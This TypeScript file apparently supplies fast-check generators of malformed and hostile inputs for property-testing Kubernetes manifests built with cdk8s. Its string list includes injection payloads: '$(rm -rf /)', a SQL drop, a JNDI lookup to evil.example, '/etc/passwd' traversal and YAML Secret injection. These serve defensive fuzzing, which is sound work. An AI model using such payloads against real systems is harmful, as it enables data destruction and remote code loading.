/**
 * Arbitraries for values as users get them wrong: empty, huge, negative, NaN, unicode and
 * injection-like, and the valid shapes (names, label keys) that recipes mix them with.
 */
import { Duration, Size } from 'cdk8s';
import { Cpu } from 'cdk8s-plus-27';
import * as fc from 'fast-check';

/** Strings that break names, labels, shell scripts or YAML. */
const NASTY_STRINGS = [
  '', ' ', '-', '.', 'My_Model', 'model.v1', '-leading', 'trailing-', '9starts-with-digit', 'UPPER', 'a'.repeat(64), 'x'.repeat(300),
  '$(rm -rf /)', '`id`', '"; DROP TABLE models; --', '{{ .Values.secret }}', '${jndi:ldap://evil.example/a}', '../../etc/passwd',
  'a\nkind: Secret', 'key: value', '\u0000', '\u202Egnp.exe', 'модель', '模型', '🚀', 'naïve', 'a b', '/leading-slash', '*',
  // Strings a YAML reader could take for another type: YAML 1.2 and Go octals, Go's upper-case prefixes, YAML 1.1 words.
  '0o17', '0O17', '0X1F', '-0B1', '+0o7', 'yes', 'on', 'No', '~', 'null', '1e3', '.inf', '.5', '1_000', '0017', '12:30', '2001-12-14', '<<', '=',
  // Keys that name members of every JavaScript object, and keys that Knative and KServe read.
  'constructor', '__proto__', 'toString', 'hasOwnProperty', 'autoscaling.knative.dev/min-scale', 'autoscaling.knative.dev/window',
  'autoscaling.knative.dev/minScale', 'serving.kserve.io/deploymentMode', 'PORT', 'K_SERVICE', 'PYTHONPATH',
  // Names at their length limits: 59 and 60 (a loader volume's claim), 63 and 64 (a label), 253 and 254 (a subdomain).
  'a'.repeat(59), 'a'.repeat(60), 'a'.repeat(63), 'a'.repeat(253), 'a'.repeat(254), `${'a'.repeat(61)}.b`,
];

/** A DNS-1123 label, the shape of most valid names. */
export const dnsLabel = fc.stringMatching(/^[a-z]([-a-z0-9]{0,20}[a-z0-9])?$/);

/** Any string, biased towards the nasty ones. */
export const hostileString = fc.oneof(
  { arbitrary: fc.constantFrom(...NASTY_STRINGS), weight: 3 },
  { arbitrary: fc.string({ maxLength: 20 }), weight: 1 },
  { arbitrary: fc.fullUnicodeString({ maxLength: 10 }), weight: 1 },
  { arbitrary: fc.string({ minLength: 250, maxLength: 400 }), weight: 1 },
);

/** Numbers: edge values, small integers, fractions and any double (NaN and the infinities included). */
export const hostileNumber = fc.oneof(
  {
    arbitrary: fc.constantFrom(0, -0, 1, -1, 0.5, 100, 101, 1e9, 2 ** 31 - 1, 2 ** 31, -(2 ** 31), 2 ** 32, 2 ** 53 - 1, 2 ** 53, 2 ** 63,
      Number.MAX_VALUE,
      NaN, Infinity, -Infinity, 8012, 9091, 65535, 65536),
    weight: 2,
  },
  { arbitrary: fc.integer({ min: -5, max: 20 }), weight: 3 },
  { arbitrary: fc.double(), weight: 1 },
);

/** Amounts cdk8s accepts in a Duration or Size factory: never negative, but NaN, infinite, fractional or huge. */
const unitAmount = fc.oneof(
  // Go's limit is 2562047h47m16.854775807s: amounts around it in each unit, and int32 seconds.
  {
    arbitrary: fc.constantFrom(0, 0.5, 1.5, 1e21, NaN, Infinity, 2562047, 2562048, 4_800_000, 9_223_372_036_854, 9_223_372_036_855,
      2 ** 31 - 1, 2 ** 31),
    weight: 1,
  },
  { arbitrary: fc.integer({ min: 0, max: 4000 }), weight: 4 },
);

const DURATION_UNITS = [Duration.millis, Duration.seconds, Duration.minutes, Duration.hours, Duration.days].map((unit) => (n: number) => unit(n));
export const hostileDuration: fc.Arbitrary<Duration> = fc.tuple(unitAmount, fc.constantFrom(...DURATION_UNITS)).map(([amount, unit]) => unit(amount));

const SIZE_UNITS = [Size.kibibytes, Size.mebibytes, Size.gibibytes, Size.tebibytes, Size.pebibyte].map((unit) => (n: number) => unit(n));
export const hostileSize: fc.Arbitrary<Size> = fc.tuple(unitAmount, fc.constantFrom(...SIZE_UNITS)).map(([amount, unit]) => unit(amount));

export const hostileCpu: fc.Arbitrary<Cpu> = fc.tuple(hostileNumber, fc.boolean())
  .map(([amount, millis]) => (millis ? Cpu.millis(amount) : Cpu.units(amount)));

/** A label key, with an optional DNS prefix. */
export const labelKey = fc.tuple(fc.option(fc.constantFrom('example.com/', 'app.kubernetes.io/')), dnsLabel).map(([prefix, name]) => `${prefix ?? ''}${name}`);
